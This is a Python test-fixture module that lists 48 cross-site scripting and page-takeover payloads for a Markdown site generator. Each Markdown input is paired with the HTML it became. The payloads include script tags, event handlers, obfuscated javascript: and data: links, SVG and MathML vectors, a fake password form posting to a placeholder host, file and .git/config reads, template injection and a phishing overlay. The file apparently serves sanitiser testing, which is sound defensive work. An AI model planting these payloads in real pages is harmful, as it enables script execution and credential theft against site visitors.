"""48 pages that ran scripts, called other hosts or took the page over in other generators, as Markdown and as the HTML they became.

``FAR`` stands for the address of another host; a script that runs says ``RAN`` on the console, whichever window it is in.
"""

from __future__ import annotations

from dataclasses import dataclass

RUN = "console.log('RAN')"
_INNER = f"&lt;script&gt;{RUN}&lt;/script&gt;"


@dataclass(frozen=True, slots=True)
class Payload:
    """``html`` is what stood in the page elsewhere: "" = the same as ``markdown``. ``head`` = it stood in title or description."""

    name: str
    markdown: str
    html: str = ""
    head: str = ""

    @property
    def page(self) -> str:
        return self.html or self.markdown


def _link(name: str, address: str) -> Payload:
    return Payload(name, f"[a link]({address})", f'<a href="{address}">a link</a>')


PAYLOADS = (
    Payload("01 script", f"<script>{RUN}</script>"),
    Payload("02 img onerror", f'<img src="missing.png" onerror="{RUN}">'),
    _link("03 javascript link", f"javascript:{RUN}"),
    Payload(
        "04 javascript in entities and tabs", f"[a](java&#115;cript&colon;{RUN}) [b](<java\tscript:{RUN}>)",
        f'<a href="java&#115;cript&colon;{RUN}">a</a> <a href="java\tscript:{RUN}">b</a>',
    ),
    Payload("05 autolink", f"<javascript:{RUN}>", f'<a href="javascript:{RUN}">a</a>'),
    Payload("06 attr_list onclick", f'[a link](#x){{onclick="{RUN}"}}', f'<a href="#x" onclick="{RUN}">a link</a>'),
    Payload("07 attr_list onload", f'![a](../../media/padlock.svg){{onload="{RUN}"}}', f'<img src="media/padlock.svg" onload="{RUN}">'),
    Payload(
        "08 heading onfocus", f'## A heading {{tabindex=0 autofocus onfocus="{RUN}"}}', f'<h2 tabindex="0" autofocus onfocus="{RUN}">A</h2>'
    ),
    Payload("09 iframe srcdoc", f'<iframe srcdoc="{_INNER}"></iframe>'),
    Payload("10 svg onload", f'<svg onload="{RUN}"></svg>'),
    Payload("11 svg script", f"<svg><script>{RUN}</script></svg>"),
    Payload("12 MathML", f'<math><maction xlink:href="javascript:{RUN}"><mi href="javascript:{RUN}">click</mi></maction></math>'),
    Payload("13 details ontoggle", f'<details open ontoggle="{RUN}"><summary>a</summary>b</details>'),
    Payload("14 style hides the page", "<style>body { display: none }</style>"),
    Payload("15 style import", '<style>@import url("FAR/15.css");</style>'),
    Payload("16 meta refresh", '<meta http-equiv="refresh" content="0; url=FAR/16.html">'),
    Payload("17 base", '<base href="FAR/17/"><img src="17.png">'),
    Payload("18 password form", '<form action="FAR/18"><input name="password" type="password"><button>Sign in</button></form>'),
    Payload("19 md_in_html onmouseover", f'<div markdown="1" onmouseover="{RUN}">**words**</div>'),
    _link("20 data link", f"data:text/html,<script>{RUN}</script>"),
    Payload("21 object and embed", '<object data="FAR/21.svg" type="image/svg+xml"></object><embed src="FAR/21b.svg">'),
    Payload("22 title", "Words.", head=f"</title><script>{RUN}</script>"),
    Payload("23 description", "Words.", head=f'"><script>{RUN}</script><img src=FAR/23.png>'),
    Payload("24 template", "---\ntemplate: ../../etc/hostname\n---"),
    Payload("25 img in a heading", f'## A <img src="missing.png" onerror="{RUN}"> heading'),
    Payload("26 include", '--8<-- ".git/config"'),
    Payload("27 template language", "{{ 7*7 }} {% include 'x' %} %%oer:content%%"),
    Payload("28 bidi and zero width", "a\u202eb\u200bc\u2066d"),
    Payload("29 homoglyph link", "[bank](https://b\u0430nk.test/)"),
    Payload("30 reference link", f"[a link][far]\n\n[far]: javascript:{RUN}", f'<a href="javascript:{RUN}">a link</a>'),
    Payload("31 code title", f'```py title="<script>{RUN}</script>"\nx\n```'),
    Payload("32 code", f"`<script>{RUN}</script>`"),
    Payload("33 tab title", f'=== "<script>{RUN}</script>"\n\n    words'),
    Payload("34 admonition title", f'!!! note "<script>{RUN}</script>"\n\n    words'),
    Payload("35 img in a cell", f'| a | b |\n|---|---|\n| <img src="missing.png" onerror="{RUN}"> | c |'),
    Payload("36 pixel", "![](FAR/36.png)", '<img src="FAR/36.png">'),
    Payload("37 link css", '<link rel="stylesheet" href="FAR/37.css">'),
    Payload("38 preload and prefetch", '<link rel="preload" as="script" href="FAR/38.js"><link rel="prefetch" href="FAR/38b.html">'),
    Payload(
        "39 svg animate", f'<svg><a href="#"><animate attributeName="href" values="javascript:{RUN}"/><text y="20">click</text></a></svg>'
    ),
    Payload(
        "40 clobbering", '<form name="getElementById"><input name="querySelectorAll"></form><img name="oer" id="oer"><a id="__config"></a>'
    ),
    Payload("41 escaped script", f"&lt;script&gt;{RUN}&lt;/script&gt; &lt;img src=x onerror={RUN}&gt;"),
    Payload("42 script from elsewhere", '<script src="FAR/42.js"></script>'),
    _link("43 data link in base64", "data:text/html;base64,PHNjcmlwdD5jb25zb2xlLmxvZygnUkFOJyk8L3NjcmlwdD4="),
    Payload("44 file image", "![a](file:///etc/hostname)", '<img src="file:///etc/hostname">'),
    Payload("45 iframe", '<iframe src="FAR/45.html"></iframe>'),
    Payload("46 video", '<video autoplay src="FAR/46.mp4" poster="FAR/46.png"></video><audio src="FAR/46.mp3" preload="auto"></audio>'),
    Payload("47 template element", f'<template><script>{RUN}</script></template><noscript><img src="FAR/47.png"></noscript>'),
    Payload("48 overlay", '<div style="position:fixed;inset:0;z-index:9999;background:url(FAR/48.png)">Pay here</div>'),
)  # fmt: skip
